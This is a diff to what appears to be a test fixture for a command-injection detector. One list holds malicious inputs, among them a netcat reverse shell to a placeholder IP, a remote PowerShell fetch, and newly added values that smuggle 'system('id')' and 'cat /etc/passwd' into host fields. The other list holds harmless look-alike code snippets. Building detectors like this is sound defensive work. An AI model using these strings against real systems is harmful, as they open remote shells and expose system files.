@@ -76,6 +76,9 @@ CARRIED = [
     "nc -e /bin/sh 192.0.2.7 4444",
     "Invoke-WebRequest http://a.example/x.ps1",
     "!-1!-2",
+    "127.0.0.1)\nsystem('id')",
+    '{"host": "a; cat /etc/passwd"}',
+    '{"host": "a"}; cat /etc/passwd',
 ]
 
 
@@ -154,6 +157,10 @@ HONEST = [
     "man & woman",
     "head; shoulders; knees & toes",
     "你好; 世界",
+    'rows = load("a.csv")\nprint(rows["id"].mean())',
+    "from collections import Counter\nwords = read(path).split()\nprint(Counter(words))",
+    "model.fit(x, y)\nprint(model.score(x, y))  # again",
+    '{"cell": "x = f(1)\\nprint(x)", "note": "a; date"}',
 ]
 
 
